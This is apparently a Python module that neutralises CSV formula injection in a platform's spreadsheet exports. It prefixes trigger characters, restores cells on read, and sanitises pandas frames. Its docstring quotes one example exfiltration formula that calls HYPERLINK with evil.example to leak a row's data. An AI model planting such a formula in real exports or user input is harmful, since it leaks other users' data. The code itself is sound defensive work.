"""Spreadsheet-safe CSV: the one place that neutralises formula injection in every export.

A spreadsheet program (Excel, LibreOffice Calc, Google Sheets) opening a CSV runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return can hide such a
start. Text typed by one user (a provider's intervention name) could then run in another user's
spreadsheet (a manager's export): ``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` leaks the
row. OWASP's "CSV Injection" guidance is to prefix such a cell with a single quote, which every
spreadsheet program treats as "this cell is text" and does not show.

The rule, and why round trips are exact:

- ``neutralise(s)`` prefixes one ``'`` when ``s`` matches ``'*\\s*[=+\\-@\\t\\r＝＋－＠]`` (any
  number of quotes, then any white space, which LibreOffice may trim, then a trigger character, the
  full-width forms included) and is not a plain number (``-5``, ``+3.2`` stay numbers);
- ``restore(t)`` removes one leading ``'`` when ``t`` matches the same pattern with at least one quote
  and is not a number.

Every text that ``neutralise`` changes matches the pattern ``restore`` undoes, and every text it leaves
alone does not, so ``restore(neutralise(s)) == s`` for every string ``s`` (tested with Hypothesis).
Reading a file that a person typed, a cell ``'=x`` becomes ``=x``, which is also what a spreadsheet
program shows for it.

Numbers (int, float, Decimal) and ``None`` are written as they are; only text is neutralised.

The writer quotes every text cell (``csv.QUOTE_NONNUMERIC``): a spreadsheet set to split on ``;`` (as
in many European locales) would otherwise split ``a;=1+1`` into a cell ``=1+1`` that no prefix can
reach. With the quotes, the whole text stays one cell. ``safe_frame`` users pass the same ``quoting``
to ``to_csv`` (:data:`QUOTING`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

#: Characters that make a spreadsheet cell a formula (or hide that it is one).
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_NEEDS = re.compile(r"'*\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_ESCAPED = re.compile(r"'+\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
#: How every export quotes: text always in quotes, numbers bare.
QUOTING = csv.QUOTE_NONNUMERIC
# ASCII digits only: ``\d`` would also match other scripts' digits ("-\u0663"), which are not numbers
# to a spreadsheet, so such a cell must be neutralised like any other text.
_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")


def _is_number(s: str) -> bool:
    return _NUMBER.fullmatch(s) is not None


def neutralise(value: Any) -> Any:
    """The cell as it must be written: text that a spreadsheet would run gets a leading ``'``."""
    if not isinstance(value, str):
        return value
    if _NEEDS.match(value) and not _is_number(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """Undo :func:`neutralise` on a cell read back from a CSV file."""
    if isinstance(value, str) and _ESCAPED.match(value) and not _is_number(value):
        return value[1:]
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A whole row through :func:`neutralise`."""
    return [neutralise(v) for v in values]


class SafeWriter:
    """``csv.writer`` whose every text cell goes through :func:`neutralise`."""

    def __init__(self, out, *args, **kwargs):
        kwargs.setdefault("quoting", QUOTING)
        self._w = csv.writer(out, *args, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def writer(out, *args, **kwargs) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet (every export of the platform)."""
    return SafeWriter(out, *args, **kwargs)


def safe_frame(df):
    """A copy of a pandas DataFrame with every text cell neutralised (for ``to_csv``/``to_excel``).

    Text, string and categorical columns are neutralised, and so are column names and the index (a
    user-named column or row label could carry a formula; ``to_csv`` writes the index by default)."""
    import pandas as pd

    def text(dtype) -> bool:
        # object, "string" and pandas 3's default "str" dtype (whose name does not start "string")
        return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)

    out = df.copy()
    for col in out.columns:
        dtype = out[col].dtype
        if isinstance(dtype, pd.CategoricalDtype):
            out[col] = out[col].cat.rename_categories(neutralise)
        elif text(dtype):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    if isinstance(out.index, pd.MultiIndex):
        out.index = out.index.set_levels([lv.map(neutralise) for lv in out.index.levels])
    elif text(out.index.dtype):
        out.index = out.index.map(neutralise)
    return out


__all__ = ["QUOTING", "TRIGGERS", "neutralise", "restore", "row", "writer", "SafeWriter", "safe_frame"]
